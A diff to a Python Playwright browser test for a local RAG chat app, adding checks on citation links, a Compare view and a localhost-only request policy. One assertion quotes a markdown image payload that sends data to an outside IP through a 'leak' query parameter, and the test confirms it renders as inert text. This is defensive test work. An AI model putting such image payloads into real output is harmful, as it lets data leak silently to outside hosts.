@@ -2,14 +2,16 @@
 
 Start the server on a free loopback port, load the demo corpus (the first build embeds ~450
 chunks with the local ONNX model), ask a question in Chat, and check that the answer, a
-retrieved chunk with its labelled score, and the cost line are visible, and that no request
-the pages make leaves localhost (favicon, fonts, charts). Saves tests/artifacts/chat.png
-(git-ignored).
+retrieved chunk with its labelled score, and the cost line are visible, that a [n] citation
+scrolls to its hit card, that a Compare turn draws both columns and the diff, and that no
+request the pages make leaves localhost (favicon, fonts, charts). Saves tests/artifacts/chat.png
+and compare.png (git-ignored).
 """
 
 from __future__ import annotations
 
 import os
+import re
 import socket
 import subprocess
 import sys
@@ -136,6 +138,32 @@ def test_demo_chat_in_a_real_browser(server):
             page.wait_for_timeout(500)
             page.screenshot(path=str(ARTIFACTS / "chat.png"), full_page=False)
 
+            # The answer's [n] citations are the app's own links to its hit cards on this page.
+            cite = answer.locator("a.rag-cite").first
+            expect(cite).to_have_attribute("href", re.compile(r"^#hit-t0-\d+$"))
+            assert answer.locator(".rag-answer a:not(.rag-cite), .rag-answer img").count() == 0
+            target = cite.get_attribute("href")
+            cite.click()
+            expect(page.locator(target)).to_be_in_viewport()
+
+            # Compare: one question to A and B side by side, then the diff under them.
+            page.get_by_text("Compare", exact=True).click()
+            both = page.get_by_placeholder("Ask both A and B a question")
+            expect(both).to_be_visible(timeout=30_000)
+            both.fill("What is the capital of Kenya?")
+            both.press("Enter")
+            diff = page.locator(".rag-diff").first
+            expect(diff).to_be_visible(timeout=60_000)
+            expect(diff).to_contain_text("found by both")
+            expect(page.locator("#hit-c0a-1")).to_have_count(1)
+            expect(page.locator("#hit-c0b-1")).to_have_count(1)
+            expect(page.get_by_text("Traceback")).to_have_count(0)
+            diff.evaluate("e => e.scrollIntoView({block: 'end'})")
+            page.wait_for_timeout(500)
+            page.screenshot(path=str(ARTIFACTS / "compare.png"), full_page=False)
+            page.get_by_text("Compare", exact=True).click()  # back to the plain chat
+            expect(page.get_by_placeholder("Ask a question about the documents in this index")).to_be_visible()
+
             # A second browser session at the same time has its own chat: it sees the shared
             # demo index, but not the first session's question.
             second = browser.new_context(viewport={"width": 1280, "height": 720})
@@ -193,7 +221,10 @@ def test_markdown_in_a_document_renders_as_text_in_a_real_browser(server, tmp_pa
             answer = page.locator('[data-testid="stChatMessage"]').nth(1)
             expect(answer).to_contain_text("![pixel](http://198.51.100.7/p.png?leak=kenya)")
             expect(answer).to_contain_text("[1]")
-            assert answer.locator("img, a").count() == 0 and page.locator(".rag-hit img").count() == 0
+            # the only link in an answer is the app's own [n] citation to a card on this page
+            assert answer.locator("img, a:not(.rag-cite)").count() == 0 and page.locator(".rag-hit img").count() == 0
+            hrefs = answer.locator("a.rag-cite").evaluate_all("els => els.map(e => e.getAttribute('href'))")
+            assert hrefs and all(h.startswith("#hit-") for h in hrefs), hrefs
         except Exception:
             page.screenshot(path=str(ARTIFACTS / "hostile-failure.png"), full_page=True)
             raise
